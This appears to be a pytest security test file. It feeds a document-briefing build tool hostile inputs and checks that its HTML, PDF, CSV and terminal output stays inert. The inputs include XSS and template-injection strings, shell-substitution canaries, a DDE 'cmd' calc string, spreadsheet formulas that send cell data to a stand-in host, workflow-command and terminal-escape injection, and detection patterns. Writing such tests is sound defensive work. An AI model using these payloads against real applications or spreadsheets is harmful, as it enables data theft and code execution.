"""A project whose every text is hostile: it is read, printed, proved and told, and all of it stays text.

Where user namespaces are allowed the build runs in a network of its own that has nothing but loopback.
"""

import csv
import io
import json
import re
import shutil
import subprocess
from base64 import b64encode
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path
from typing import Any

import lxml.html
import pikepdf
import pypdfium2 as pdfium
import pytest
from commands import COMMAND, ROOT, lay_out, run_here

from briefing.corrections.correction import COLUMNS
from briefing.tables.schema import TABLES
from briefing.tables.store import load

CANARY = "made-by-a-source"  # a file that every payload would make
PYTHON = f"__import__('pathlib').Path('{CANARY}').touch()"
MARKUP = (
    f"<script>fetch('{CANARY}')</script> <img src=x onerror=alert(1)> </title></style> [a](javascript:alert(1)) "
    '![a](x.png) **b** `c` #import "x.typ": * #panic() $x^n$ @ref \\input{x} \\write18{x} // /* «title» <!-- ]]> &amp;'
)
TEMPLATES = (
    f"{{{{ 7*191 }}}} {{% set a = 1 %}} {{self.__class__}} %(x)s ${{x}} $(touch {CANARY}) `touch {CANARY}` {PYTHON}"
)
HIDDEN = "\u202eover\u202c \u2066isolated\u2069 zero\u200bwidth"
STEERING = f"{HIDDEN} \x1b[2J\x1b]0;x\x07 \x08"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"party")'
TITLE = "<script>alert(8)</script> {{ self }} #panic() $x_2$ *a* _b_ `c` [d](javascript:alert(9)) =SUM(A1) twenty-one"
AUTHOR = '=WEBSERVICE("http://x.example/?"&A1) office \ufb01ve'
ORGANISATION = "=SUM(A) <b>Org 12</b> {{ self }} #panic() $y$"
# Signs that page and PDF may print unlike each other, most of them with numbers: what is unseen, turns what follows it,
# has a width of its own, is drawn by no font, is taken apart or put together, or means something to one of the formats.
ODD = (
    "zero\u200bwidth 7\u200b8 ze\u200bro one\u2060hundred a\u200d5 \ufeff7",
    "soft\u00adhyphen twenty\u00adone 19\u00ad45 nine hun\u00addred twen-ty -one 5-6 2006\u20132010",
    "\u202e123\u202c \u206645\u2069 \u200e12\u200f13\u061c14",
    "1\u00a0234 1\u2009234 1\u202f234 em\u20035 \u300015 \u16807 sep\u20283\u20294  two  blanks",
    "\uff11\uff12 \u0661\u0662 \u2460 ½ ² Ⅻ \U0001d7d8 中12国 第3届 Россия 5 שלום 12",
    "😀12 👨‍👩‍👧 3️⃣ 🇻🇳 \ue0017 \U000e00316 \u20dd9 \u06dd12 \u31645",
    "\ufb01ve o\ufb03ce \ufb012 Ǆ ĳ a\u0300\u0301\u0302 6 5\u0301 Z\u0337\u03229",
    "□ 5□ ‡ 9 ‡8 “9” ”8“ ”, line 3 A12 B7 Chart 3. Table 1. hai mươi đảng",
    "<b>12</b> $x_2$ #let a = 3 {{ 7 }} &#55; \\x1b7 [3](derived:3fa2b1c09e) [^A3] [](lang:vi)8[](lang:)",
    "https://x.example/2019/05/a-17?b=3#4 1,234.5 1.234,5 COVID-19 x^2 H₂O 12. 1 / 12",
)
ALONE = ("unshare", "-rn", "sh", "-c", 'ip link set lo up && exec "$@"', "sh")  # a network of one's own: only loopback
NAME = "=cmd|' <b> {{ 7*191 }} #panic() ::error::x"
TEXT = f"""{FORMULA} {TEMPLATES}

By <b>Ann</b> Webb | @SUM(A1) Courier | 3 May 2022

The Communist Party of Vietnam has relations with 247 parties in 111 countries. {MARKUP}

::error file=x::Delegations of 9 parties from Laos and Cuba came. ##[add-mask]x {STEERING}

-2+3+cmd|'/C calc'!A0 The Party took part in the International Meeting of Communist Parties in 2019. {PYTHON}

{"Longword" * 120} of 31 parties in Asia. {TEMPLATES}
"""
ODD_NAME = "odd  1\u00a02 ze\u200bro \uff13 ‡4 𝟘 #let a = 5"
ODD_TEXT = f"""Parties meet: {ODD[0]} {ODD[6]}

By Ann {ODD[2]} Webb | {ODD[4]} Courier | 4 May 2022

""" + "\n\n".join(f"The Communist Party of Vietnam has relations with 24{n} parties of Laos in 2019, {odd}."
                  for n, odd in enumerate(ODD))  # fmt: skip
PAGE = f"""<html lang=en><head><title>A page &lt;script&gt;alert(2)&lt;/script&gt;</title>
<meta name=author content='"><script>alert(3)</script>'><script>document.title = 1</script></head>
<body onload=alert(4)><article><h1>Parties &lt;b&gt;meet&lt;/b&gt; {{{{ 7 }}}}</h1>
<p>The Lao People's Revolutionary Party keeps relations with 63 parties. <a href="javascript:alert(5)">More</a></p>
<p>&lt;img src=x onerror=alert(6)&gt; {FORMULA.replace('"', "&quot;")} Two delegations from Vietnam went to Vientiane
in 2021 to speak of training and of the links between youth unions.</p></article></body></html>"""


@dataclass(frozen=True, slots=True)
class Built:
    """The project, what its build printed, and whether it had no network but loopback."""

    project: Path
    said: str
    alone: bool


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Lay out a project of hostile texts."""
    project = lay_out(tmp_path_factory.mktemp("hostile") / "project", sources=False)
    seeds, data = project / "seeds", project / "data"
    seeds.mkdir()
    data.mkdir()
    (seeds / f"{NAME}.txt").write_text(TEXT, encoding="utf-8")
    (seeds / "page.html").write_text(PAGE, encoding="utf-8")
    (seeds / f"{ODD_NAME}.txt").write_text(ODD_TEXT, encoding="utf-8")
    (seeds / f"broken {HIDDEN} \x1b7.txt").write_bytes(b"\x00")
    (seeds / f"broken {ODD_NAME}.txt").write_bytes(b"\x00")
    with (seeds / "sources.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("source", "self", "origin"), ("page", "LAO", f"javascript:alert(7) {FORMULA}")])
    with (data / "corrections.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, COLUMNS)
        writer.writeheader()
        said = {"source": "page", "table": "mentions", "quote": "Vietnam", "was": "kind=country; id=VNM"}
        kept = {
            "who": f"<b>Eve</b> {AUTHOR}",
            "when": "2026-11-22",
            "why": f"{AUTHOR} {MARKUP} {PYTHON} {' '.join(ODD)}",
        }
        writer.writerow({name: (said | kept).get(name, "") for name in COLUMNS})
    parameters = f"title: {json.dumps(TITLE)}\nauthor: {json.dumps(AUTHOR)}\ntheme: look.yml\n"
    (project / "parameters.yml").write_text(parameters, encoding="utf-8")
    (project / "look.yml").write_text(f"organisation: {json.dumps(ORGANISATION)}\n", encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def built(hostile: Path) -> Built:
    """Build its briefing, with nothing but loopback where that can be had."""
    arguments = [str(COMMAND), "build", "--out", "out"]
    alone = [*ALONE, "true"] if shutil.which("unshare") else ["false"]
    is_alone = subprocess.run(alone, capture_output=True, check=False).returncode == 0
    done = subprocess.run(
        [*ALONE, *arguments] if is_alone else arguments,
        cwd=hostile, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr  # done, and one source is refused
    return Built(hostile, done.stdout + done.stderr, is_alone)


def test_a_build_needs_nothing_but_loopback(built: Built) -> None:
    if not built.alone:
        pytest.skip("this system lets nobody make a network of their own: unshare -rn, ip link set lo up")
    assert (built.project / "out" / "briefing.pdf").is_file()


def test_nothing_that_a_text_says_is_done(built: Built) -> None:
    assert not [path for path in built.project.rglob("*") if path.name == CANARY]
    assert "1337" not in _shown(built.project / "out" / "briefing.html")  # 7 * 191


def test_what_is_printed_steers_no_terminal_and_no_workflow(built: Built) -> None:
    _assert_steers_nothing(built.said)
    assert "\\u202e" in built.said  # the refused source's name, spelled out


def test_the_page_runs_its_own_script_alone_and_shows_what_was_written(built: Built) -> None:
    page = built.project / "out" / "briefing.html"
    made = _parsed(page.read_bytes())
    assert not [name for element in made.iter() for name in element.attrib if str(name).startswith("on")]
    addresses = made.xpath("//@href | //@src")
    assert not [one for one in addresses if re.match(r"\s*(?:javascript|data:text|vbscript)", one, re.IGNORECASE)]
    (policy,) = made.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    allowed = re.search(r"script-src ([^;]+)", policy)
    assert allowed
    scripts = [one.text or "" for one in made.iter("script") if one.get("type") in (None, "module")]
    hashed = {f"sha256-{b64encode(sha256(one.encode()).digest()).decode()}" for one in scripts}
    assert hashed == {one.strip("'") for one in allowed[1].split()}
    assert not made.xpath("//img[@onerror] | //iframe | //object | //embed | //form")
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200f\u061c") & set(_shown(page))
    for words in (
        TITLE,
        ORGANISATION,
        FORMULA,
        "□123□",
        "12□13□14",
        "**b** `c` #import",
        "<script>fetch(",
        "{{ 7*191 }}",
        "\\write18{x}",
    ):
        assert words in _shown(page), words


def test_the_pdf_shows_what_was_written(built: Built) -> None:
    document = pdfium.PdfDocument(built.project / "out" / "briefing.pdf")
    shown = "".join("".join(page.get_textpage().get_text_range().split()) for page in document)
    for words in (TITLE, ORGANISATION, "<script>fetch(", '#import "x.typ": * #panic()', "$x^n$", "{{ 7*191 }}"):
        assert "".join(words.split()).lower() in shown.lower().replace("\u00ad", "").replace("\ufffe", ""), words
    with pikepdf.open(built.project / "out" / "briefing.pdf") as file:
        actions = [link.A for page in file.pages for link in page.get("/Annots", []) if "/A" in link]
        assert {str(action.S) for action in actions} <= {"/URI", "/GoTo"}
        assert not [link for link in actions if "/URI" in link and not re.match(r"https?://|mailto:", str(link.URI))]
        assert not {"/OpenAction", "/AA", "/AcroForm"} & file.Root.keys()


def test_no_table_holds_a_formula_and_each_is_read_back_as_the_source_has_it(built: Built) -> None:
    tables = built.project / "out" / "tables"
    files = sorted(tables.glob("*.csv"))
    assert {file.stem for file in files} == {*TABLES, "corrections"}
    cells = [
        cell for file in files for row in csv.reader(io.StringIO(file.read_text("utf-8"), newline="")) for cell in row
    ]
    assert not [cell for cell in cells if re.match(r"[=@\t\r]|[+-](?![-0-9.:]*\Z)", cell)]
    loaded = load(tables)
    assert sorted(loaded["documents"]["source"]) == sorted([NAME, ODD_NAME, "page"])
    assert loaded["corrections"]["who"].tolist() == [f"<b>Eve</b> {AUTHOR}"]
    assert loaded["documents"].set_index("source")["title"][NAME].startswith("=HYPERLINK(")
    texts = {NAME: TEXT, ODD_NAME: ODD_TEXT, "page": (tables / "texts" / "page.txt").read_text("utf-8")}
    for row in loaded["figures"].to_dict("records"):
        assert texts[row["source"]][row["start"] : row["end"]] == row["surface"]


def test_the_report_proves_itself(built: Built) -> None:
    done = run_here(built.project, "verify", "out", "--no-rebuild")
    assert done.returncode == 0, done.stdout + done.stderr
    _assert_steers_nothing(done.stdout + done.stderr)


@pytest.mark.parametrize("form", ["text", "markdown", "html"])
def test_a_difference_tells_hostile_texts_as_text(built: Built, form: str) -> None:
    shutil.copytree(ROOT / "data" / "tables", built.project / "before", dirs_exist_ok=True)
    done = run_here(built.project, "diff", "before", "out", "--format", form, "--sources", str(ROOT / "seeds"))
    assert done.returncode == 0, done.stderr
    told = done.stdout
    assert all(one == "\n" or one.isprintable() for one in told)
    assert not re.search(r"(?m)^\s*::\w", told) or form == "html"
    if form == "markdown":
        assert not re.search(r"(?<!\\)<(?!mark>|/mark>)", told)
    if form == "html":
        made = _parsed(told.encode())
        assert not made.xpath("//script | //img | //@onerror | //a[starts-with(@href, 'javascript')]")
        assert NAME in made.text_content()


def _parsed(page: bytes) -> Any:
    return lxml.html.fromstring(page.decode())


def _shown(page: Path) -> str:
    """Return the text that a page shows, without its style and its script."""
    made = _parsed(page.read_bytes())
    for element in [*made.iter("script", "style")]:
        element.drop_tree()
    return str(made.text_content())


def _assert_steers_nothing(printed: str) -> None:
    steering = [one for one in printed if one not in "\n\u00a0" and not one.isprintable()]
    assert not steering
    assert not re.search(r"(?m)^\s*::|##\[", printed)
